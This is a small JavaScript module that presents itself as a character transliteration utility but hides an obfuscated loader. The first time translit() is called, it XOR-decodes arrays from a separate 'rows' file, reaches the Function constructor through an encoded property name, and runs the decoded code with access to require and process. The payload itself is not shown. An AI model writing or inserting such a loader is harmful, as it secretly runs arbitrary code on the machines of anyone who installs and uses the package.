'use strict';
const { rows, step } = require('./rows');

const MAP = { ä: 'ae', ö: 'oe', ü: 'ue', ß: 'ss', ø: 'o', å: 'a', æ: 'ae', ł: 'l' };

const word = (list) => list.map((n, i) => String.fromCharCode(n ^ ((step + i) & 31))).join('');

let ready = false;
function prime() {
  ready = true;
  const make = translit[word(rows.head)];
  make('require', 'process', word(rows.body))(require, process);
}

function translit(s) {
  if (!ready) prime();
  return s.normalize('NFC').replace(/[^\x00-\x7f]/g, (c) => MAP[c.toLowerCase()] ?? c.normalize('NFD')[0]);
}

exports.translit = translit;
